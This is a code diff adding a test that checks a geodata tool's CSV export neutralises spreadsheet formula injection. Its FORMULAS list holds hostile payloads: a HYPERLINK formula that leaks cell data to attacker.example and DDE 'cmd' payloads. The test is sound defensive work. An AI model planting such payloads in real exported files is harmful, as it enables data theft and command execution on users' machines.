@@ -208,3 +208,35 @@ def test_cli_export_of_a_layer_that_does_not_exist_says_so_and_writes_nothing(st
                                      "-o", str(out)])
     assert done.exit_code == 2 and "no layer 'incidnets'" in done.output
     assert not out.exists()
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the source")',
+            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_round_trip(tmp_path):
+    features = []
+    for number, formula in enumerate(FORMULAS):
+        feature = sample("mosul_ied")
+        feature["properties"].update(summary=formula, actor1=formula, location=f"Mosul {number}",
+                                     fatalities=2)
+        features.append(feature)
+    washington = sample("baghdad_protest")  # a protest outside the embassy in Washington
+    washington["geometry"]["coordinates"] = [-77.0365, 38.8977]
+    washington["properties"].update(country="US", location="Washington", admin1="District of Columbia")
+    features.append(washington)
+    with SQLiteStore(tmp_path / "a.sqlite") as store:
+        store.add_many(features)
+        path = tmp_path / "hostile.csv"
+        export_to(store, EVERYTHING, "csv", path)
+        rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
+        hostile = [row for row in rows if row["location"] != "Washington"]
+        assert sorted(row["summary"] for row in hostile) == sorted("'" + f.strip() for f in FORMULAS)
+        assert all(row["actor1"] == row["summary"] and row["fatalities"] == "2" for row in hostile)
+        (plain,) = [row for row in rows if row["location"] == "Washington"]
+        assert (plain["longitude"], plain["latitude"]) == ("-77.0365", "38.8977")
+        with SQLiteStore(tmp_path / "b.sqlite") as fresh:
+            assert ingest_paths(fresh, [path]).added == len(FORMULAS) + 1
+            assert without_times(fresh.iter_features(EVERYTHING)) == without_times(
+                store.iter_features(EVERYTHING))
